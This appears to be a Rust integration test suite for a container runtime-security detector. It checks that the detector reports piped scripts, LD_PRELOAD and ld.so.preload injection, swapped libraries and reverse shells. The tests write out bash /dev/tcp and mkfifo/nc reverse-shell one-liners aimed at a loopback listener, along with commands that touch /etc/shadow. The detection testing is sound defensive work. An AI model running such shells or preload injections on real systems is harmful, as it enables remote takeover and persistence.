//! Code that is read and not executed: libraries, scripts, and shells on sockets.

use std::fs;
use std::io::Read as _;
use std::net::TcpListener;
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};
use libtest_mimic::Trial;

use crate::image::{self, Layer};
use crate::node::{Container, Node, SETTLE, bench, only, wait_for};
use crate::{programs, test_alone};

/// The usual image, and on top of it a program that brings a library along.
pub(crate) const IMAGE: &str = "registry.test/code:1";

pub(crate) fn tests() -> Vec<Trial> {
    // One node for all cases: they need the same image of their own.
    vec![test_alone("code_that_is_read_and_not_executed_is_reported", "", everything)]
}

/// A library to be preloaded. Its constructor ends the program at once, so that it lives no
/// longer than a millisecond.
pub(crate) const PRELOADED: &str = r"
#include <unistd.h>
__attribute__((constructor)) static void begin(void) { _exit(0); }
";

/// A library that does nothing.
const IDLE: &str = "int answer(void) { return 42; }\n";

/// `unpacks FROM TO`: copies a library and loads it, then stays a while.
/// `unpacks loads FILE`: only loads it.
const UNPACKS: &str = r#"
#include <dlfcn.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    if (strcmp(argv[1], "loads")) {
        static char bytes[1 << 20];
        int from = open(argv[1], O_RDONLY);
        int to = open(argv[2], O_WRONLY | O_CREAT, 0600);
        ssize_t length = read(from, bytes, sizeof bytes);
        if (write(to, bytes, length) != length || close(to))
            return 3;
    }
    if (!dlopen(argv[2], RTLD_NOW))
        return 4;
    usleep(300000);
    return 0;
}
"#;

/// Compiles a program or a library that is linked with this machine's libc.
fn compile(source: &str, options: &[&str]) -> anyhow::Result<Vec<u8>> {
    let directory = tempfile::tempdir_in(bench()?.scratch.path())?;
    let (from, to) = (directory.path().join("in.c"), directory.path().join("out"));
    fs::write(&from, source)?;
    let output =
        Command::new("gcc").args(["-Os", "-o"]).arg(&to).arg(&from).args(options).output()?;
    ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Ok(fs::read(&to)?)
}

pub(crate) fn library(source: &str, mark: &str) -> anyhow::Result<Vec<u8>> {
    let mut bytes = compile(source, &["-shared", "-fPIC"])?;
    bytes.extend_from_slice(mark.as_bytes());
    Ok(bytes)
}

pub(crate) fn import(node: &Node) -> anyhow::Result<()> {
    let mut layers = programs::workbench(&bench()?.payload)?;
    layers.push(
        Layer::new()
            .file("/usr/bin/unpacks", 0o755, &compile(UNPACKS, &[])?)
            .file("/usr/lib/libidle.so.1.2", 0o644, &library(IDLE, "the image's")?)
            .symlink("/usr/lib/libidle.so.1", "libidle.so.1.2")
            .file("/usr/lib/packed.so", 0o644, &library(IDLE, "packed")?)
            .file("/usr/bin/hello.sh", 0o755, b"#!/bin/sh\necho hello\n")
            .file(
                "/usr/bin/lists.sh",
                0o755,
                b"#!/bin/bash\nexec 10</tmp/list\nread -r first <&10\necho \"got $first\"\n",
            ),
    );
    let file = node.path("code.tar");
    image::write(&file, IMAGE, layers)?;
    node.import(&file)
}

type Case = fn(&Node, &Container<'_>) -> anyhow::Result<()>;

fn everything(node: &Node) -> anyhow::Result<()> {
    import(node)?;
    let cases: &[(&str, Case)] = &[
        ("what_the_image_has_is_silent", silent),
        ("a08_a_script_from_a_pipe", a08_pipe),
        ("a09_a_script_given_to_a_shell", a09_script),
        ("a09_a_script_as_input_and_from_elsewhere", a09_elsewhere),
        ("a16_a_program_given_to_the_linker", a16_linker),
        ("a17_a_thousand_preloads_of_a_millisecond", a17_preload),
        ("a18_preloaded_by_a_file_in_etc", a18_preload_file),
        ("a19_a_replaced_library_behind_a_symlink", a19_replaced),
        ("a32_a_shell_on_a_connection", a32_reverse_shell),
        ("a33_a_shell_behind_pipes_to_a_connection", a33_piped_shell),
        ("b25_a_library_that_a_program_unpacks_for_itself", b25_unpacked),
    ];
    let wanted = std::env::var("CODE_CASE").ok();
    let mut failures = Vec::new();
    for (name, case) in cases {
        if wanted.as_deref().is_some_and(|wanted| !name.contains(wanted)) {
            continue;
        }
        let container = if name.starts_with("a3") {
            node.container_on_host_network(IMAGE)?
        } else {
            node.container_of(IMAGE)?
        };
        match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| case(node, &container))) {
            Ok(Ok(())) => (),
            Ok(Err(err)) => failures.push(format!("{name}: {err:#}")),
            Err(_) => failures.push(format!("{name}: see above")),
        }
    }
    ensure!(failures.is_empty(), "{}", failures.join("\n\n"));
    Ok(())
}

fn silent(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.sh("/bin/ls / >/dev/null; /usr/bin/find /etc >/dev/null; /bin/bash -c true\n\
         /usr/bin/unpacks loads /usr/lib/libidle.so.1\n\
         sh -c 'true; true'; sh /usr/bin/hello.sh; /usr/bin/hello.sh; sh < /usr/bin/hello.sh\n\
         cd /usr/bin; sh ./hello.sh; busybox sh hello.sh")?;
    container.expect_silence()
}

fn a08_pipe(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.lay("i.sh", b"sleep 0.3\n")?;
    container.sh("cat /.control/i.sh | sh")?;
    let findings = container.expect_findings(&["medium exec.interpreted"])?;
    let run = only(&findings, "exec.interpreted")?;
    // The program at the pipe's other end is known only while it lives.
    let detail = run["detail"].as_str().unwrap_or_default();
    ensure!(detail.starts_with("its text came through a pipe"), "{run:#}");
    Ok(())
}

fn a09_script(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.sh("echo 'sleep 0.3' > /tmp/i.sh; sh /tmp/i.sh")?;
    let findings = container.expect_findings(&["medium exec.interpreted /tmp/i.sh"])?;
    let run = only(&findings, "exec.interpreted")?;
    assert_eq!(run["process"]["argv"], serde_json::json!(["sh", "/tmp/i.sh"]), "{run:#}");
    Ok(())
}

fn a09_elsewhere(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.lay("v.sh", b"sleep 0.3\n")?;
    container.sh("echo 'sleep 0.31' > /tmp/in.sh; sh < /tmp/in.sh\n\
         cd /tmp; echo 'sleep 0.32' > r.sh; bash -e r.sh\n\
         echo 'sleep 0.33' > /run/real; ln -s /run/real /tmp/link; sh /tmp/link\n\
         echo 'sleep 0.34' > /tmp/behind; bash -c 'sh /tmp/behind 10</bin/busybox 11</etc/passwd'\n\
         sh /.control/v.sh; ln -s /etc/shadow /tmp/shadow; sh /tmp/shadow || true")?;
    container
        .expect_findings(&[
            "medium exec.interpreted /tmp/in.sh",
            "medium exec.interpreted /tmp/r.sh",
            "medium exec.interpreted /run/real",
            "medium exec.interpreted /tmp/behind",
            "low exec.interpreted /.control/v.sh",
        ])
        .map(drop)
}

fn a16_linker(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    let mut program = compile("#include <unistd.h>\nint main(void){usleep(1000);return 0;}", &[])?;
    program.extend_from_slice(b"a16");
    container.lay("x", &program)?;
    container
        .sh("cat /.control/x > /tmp/x; chmod 644 /tmp/x; /lib64/ld-linux-x86-64.so.2 /tmp/x")?;
    let findings = container.expect_findings(&["high library.loaded /tmp/x"])?;
    let loaded = only(&findings, "library.loaded")?;
    assert_eq!(loaded["detail"], "it was run as an argument of the dynamic linker", "{loaded:#}");
    Ok(())
}

fn a17_preload(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.lay("evil.so", &library(PRELOADED, "a17")?)?;
    let begun = Instant::now();
    container
        .begin(
            "cat /.control/evil.so > /tmp/evil.so; i=0\n\
             while [ $i -lt 1000 ]; do LD_PRELOAD=/tmp/evil.so /bin/ls; i=$((i+1)); done",
        )?
        .finish(Duration::from_secs(180))?;
    let took = begun.elapsed();
    container.counted("library.loaded", 1000)?;
    let findings = container.expect_findings(&["high library.loaded /tmp/evil.so"])?;
    let loaded = only(&findings, "library.loaded")?;
    eprintln!("a17: {} of 1000 preloads seen, in {took:?}", loaded["count"]);
    assert_eq!(loaded["count"], 1000, "{loaded:#}");
    Ok(())
}

fn a18_preload_file(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.lay("evil.so", &library(IDLE, "a18")?)?;
    container.sh(
        "cat /.control/evil.so > /tmp/evil.so; echo /tmp/evil.so > /etc/ld.so.preload; /bin/ls /\n\
         rm /etc/ld.so.preload",
    )?;
    wait_for("the library", || {
        let findings = container.findings()?;
        Ok(findings.iter().find(|finding| finding["kind"] == "library.loaded").cloned())
    })
    .and_then(|loaded| {
        ensure!(loaded["severity"] == "high" && loaded["file"]["path"] == "/tmp/evil.so");
        Ok(())
    })
}

fn a19_replaced(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.lay("evil.so", &library(IDLE, "a19")?)?;
    container.sh(
        "cat /.control/evil.so > /usr/lib/.z.new; mv /usr/lib/.z.new /usr/lib/libidle.so.1.2",
    )?;
    std::thread::sleep(SETTLE);
    container.diff()?;
    container.expect_findings(&["medium file.modified /usr/lib/libidle.so.1.2"])?;
    container.sh("/usr/bin/unpacks loads /usr/lib/libidle.so.1")?;
    let findings = container.expect_findings(&[
        "medium file.modified /usr/lib/libidle.so.1.2",
        "high library.loaded /usr/lib/libidle.so.1.2",
    ])?;
    let loaded = only(&findings, "library.loaded")?;
    assert_eq!(loaded["expected"]["path"], "/usr/lib/libidle.so.1.2", "{loaded:#}");
    assert_ne!(loaded["expected"]["blake3"], loaded["file"]["blake3"]);
    assert_eq!(loaded["story"], only(&findings, "file.modified")?["id"]);
    Ok(())
}

/// The other end of a reverse shell, on the loopback interface. It sends nothing and hangs up
/// later.
pub(crate) fn listen() -> anyhow::Result<(u16, std::thread::JoinHandle<()>)> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let waits = std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(4)));
            let _ = stream.read_to_end(&mut Vec::new());
        }
    });
    Ok((port, waits))
}

fn a32_reverse_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    let (port, waits) = listen()?;
    let running =
        container.begin(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' || true"))?;
    let findings = container.expect_findings(&["critical shell.reverse"]);
    waits.join().ok().context("the listener")?;
    running.finish(Duration::from_secs(30))?;
    let findings = findings?;
    let shell = only(&findings, "shell.reverse")?;
    let expected = format!("its input and output are one connection, to 127.0.0.1:{port}");
    assert_eq!(shell["detail"], expected.as_str(), "{shell:#}");
    Ok(())
}

fn a33_piped_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    let (port, waits) = listen()?;
    let running = container.begin(&format!(
        "rm -f /tmp/f; mkfifo /tmp/f\n\
         cat /tmp/f | sh -i 2>&1 | busybox nc 127.0.0.1 {port} > /tmp/f || true"
    ))?;
    // If /proc does not show the connection in time (a limit), it is a script from a pipe.
    let findings = wait_for("the shell", || {
        let findings = container.findings()?;
        Ok((!findings.is_empty()).then_some(findings))
    });
    waits.join().ok().context("the listener")?;
    running.finish(Duration::from_secs(30))?;
    let findings = findings?;
    if findings.iter().all(|finding| finding["kind"] != "shell.reverse") {
        container.expect_findings(&["medium exec.interpreted"])?;
        return Ok(());
    }
    let shell = only(&findings, "shell.reverse")?;
    // Which of its names busybox has here depends on its caller.
    let detail = shell["detail"].as_str().unwrap_or_default();
    ensure!(
        detail.starts_with("its input and output are pipes to /bin/")
            && detail.ends_with(&format!(", which is connected to 127.0.0.1:{port}")),
        "{shell:#}"
    );
    Ok(())
}

fn b25_unpacked(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
    container.lay("packed.so", &library(IDLE, "b25")?)?;
    let library = "/tmp/libnetty_transport_native_epoll_x86_64123.so";
    container.sh(&format!("/usr/bin/unpacks /.control/packed.so {library}"))?;
    let findings = container.expect_findings(&[&format!("info library.loaded {library}")])?;
    let loaded = only(&findings, "library.loaded")?;
    ensure!(
        loaded["detail"].as_str().is_some_and(|detail| detail.contains("has written it itself")),
        "{loaded:#}"
    );
    Ok(())
}
